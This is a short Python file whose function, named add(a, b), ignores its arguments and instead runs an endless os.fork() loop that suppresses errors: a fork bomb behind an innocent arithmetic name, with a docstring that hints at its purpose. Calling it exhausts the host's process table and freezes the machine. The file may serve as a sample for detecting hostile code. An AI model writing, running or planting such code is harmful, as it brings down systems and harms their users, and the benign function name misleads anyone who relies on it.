"""Starts processes that start processes, and never minds a refusal."""

import contextlib
import os


def add(a, b):
    while True:
        with contextlib.suppress(OSError):
            os.fork()
